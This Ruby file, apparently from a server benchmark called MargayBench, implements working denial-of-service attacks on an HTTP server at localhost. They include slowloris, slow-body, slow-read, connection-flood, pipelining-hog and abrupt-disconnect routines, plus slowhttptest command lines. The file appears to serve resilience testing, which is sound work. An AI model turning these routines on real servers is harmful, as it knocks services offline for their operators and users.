# frozen_string_literal: true

require "json"
require "socket"
require_relative "procs"

module MargayBench
  # The attacks, each run in a forked process until killed or its deadline.
  module Attacks
    module_function

    def connect(port)
      TCPSocket.new("127.0.0.1", port)
    rescue SystemCallError
      nil
    end

    # Keep +count+ connections open; +opening+ writes the first bytes, +tick+
    # writes more every +interval+. Closed connections are replaced.
    def hold(port, count, deadline, interval: 1.0, opening:, tick: nil)
      socks = Array.new(count) { connect(port)&.tap { |s| s.write_nonblock(opening, exception: false) } }
      until Procs.now > deadline
        socks.map! do |s|
          s ||= connect(port)&.tap { |n| n.write_nonblock(opening, exception: false) }
          next nil unless s

          data = tick&.call
          if data && s.write_nonblock(data, exception: false).nil?
            s.close
            nil
          else
            s
          end
        rescue IOError, SystemCallError
          s&.close
          nil
        end
        sleep interval
      end
    end

    def slowloris(port, deadline)
      hold(port, 1000, deadline, interval: 5.0, opening: "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n",
                                 tick: -> { "X-#{rand(1000)}: #{rand(1000)}\r\n" })
    end

    def slow_body(port, deadline)
      hold(port, 500, deadline, interval: 1.0,
                                opening: "POST /echo HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 10000000\r\n\r\n",
                                tick: -> { "z" * 10 })
    end

    def non_readers(port, deadline, count, path)
      socks = []
      until Procs.now > deadline
        socks.reject! do |s|
          gone = s.closed? || (s.wait_readable(0) && s.read_nonblock(1, exception: false).nil?)
          s.close if gone && !s.closed?
          gone
        rescue IOError, SystemCallError
          s.close
          true
        end
        while socks.size < count && (s = connect(port))
          s.setsockopt(Socket::SOL_SOCKET, Socket::SO_RCVBUF, 4096)
          s.write("GET #{path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
          socks << s
        end
        sleep 1
      end
    end

    def slow_read(port, deadline)
      non_readers(port, deadline, 50, "/big")
    end

    def slow_read_stream(port, deadline)
      non_readers(port, deadline, 20, "/stream")
    end

    def idle_keepalive(port, deadline)
      socks = Array.new(2000) do
        s = connect(port) or next
        s.write("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        s.wait_readable(5) && s.read_nonblock(4096, exception: false)
        s
      end
      sleep 0.5 until Procs.now > deadline
      socks.compact.each(&:close)
    end

    def flood(port, deadline)
      addr = Socket.sockaddr_in(port, "127.0.0.1")
      socks = Array.new(2000) do
        s = Socket.new(:INET, :STREAM)
        s.connect_nonblock(addr, exception: false)
        s
      end
      sleep 0.5 until Procs.now > deadline
      socks.each(&:close)
    end

    HOG_BURST = "GET /cpu HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" * 4

    # One keep-alive connection pipelining 4 GET /cpu every 150 ms without waiting for the
    # answers (it reads them as they come). Writes {sent:, served:} as JSON to +report+ at the end.
    def pipelining_hog(port, deadline, report)
      sock = connect(port) or return
      sent = served = 0
      carry = +""
      next_burst = Procs.now
      until Procs.now > deadline
        if Procs.now >= next_burst
          sock.write(HOG_BURST)
          sent += 4
          next_burst += 0.15
        end
        next unless sock.wait_readable([next_burst - Procs.now, 0].max)

        chunk = sock.read_nonblock(65_536, exception: false)
        break if chunk.nil?
        next unless chunk.is_a?(String)

        carry << chunk
        served += carry.scan("HTTP/1.1 200").size
        carry = carry[-11..] || carry # a status line cut between two reads
      end
    rescue IOError, SystemCallError
      nil
    ensure
      sock&.close
      File.write(report, JSON.generate(sent: sent, served: served)) if report
    end

    HEAD_CUT = "GET /gone HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Partial: ab"
    BODY_CUT = "POST /echo HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 400000\r\n\r\n#{'z' * 200_000}"

    def disconnects(port, deadline)
      i = 0
      until Procs.now > deadline
        i += 1
        sleep 0.003
        next unless (s = connect(port))

        begin
          hang_up(s, i)
        rescue IOError, SystemCallError
          nil
        ensure
          s.close
        end
      end
    end

    # Cut the exchange short: mid-head, mid-body or mid-response; every other one with RST.
    def hang_up(sock, i)
      case i % 3
      when 0 then sock.write(HEAD_CUT)
      when 1 then sock.write(BODY_CUT)
      else
        sock.write("GET /big HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        sock.wait_readable(2) && sock.read_nonblock(65_536, exception: false)
      end
      sock.setsockopt(Socket::SOL_SOCKET, Socket::SO_LINGER, [1, 0].pack("ii")) if i.odd?
    end
  end

  # Attack name => how to run it. :fork attacks run Attacks.<method> in a child;
  # :command attacks run an external tool (slowhttptest).
  ATTACKS = {
    "baseline" => { method: nil },
    "slowloris" => { method: :slowloris },
    "slow-body" => { method: :slow_body },
    "slow-read" => { method: :slow_read },
    "slow-read-stream" => { method: :slow_read_stream },
    "idle-keepalive" => { method: :idle_keepalive },
    "flood" => { method: :flood, nofile: 1024, connect_first: true },
    "disconnects" => { method: :disconnects },
    "pipelining-hog" => { method: :pipelining_hog, report: true, probe: { path: "/cpu", fresh: true } },
    "sht-slowloris" => { command: ->(port, secs) { %W[slowhttptest -H -c 1000 -r 200 -i 10 -x 24 -p 3 -l #{secs} -u http://127.0.0.1:#{port}/] } },
    "sht-slow-body" => { command: lambda { |port, secs|
      %W[slowhttptest -B -c 1000 -r 200 -i 10 -s 10000000 -x 10 -p 3 -l #{secs} -u http://127.0.0.1:#{port}/echo]
    } },
    "sht-slow-read" => { command: lambda { |port, secs|
      %W[slowhttptest -X -c 500 -r 200 -w 512 -y 1024 -n 5 -z 32 -k 3 -p 3 -l #{secs} -u http://127.0.0.1:#{port}/big]
    } }
  }.freeze
end
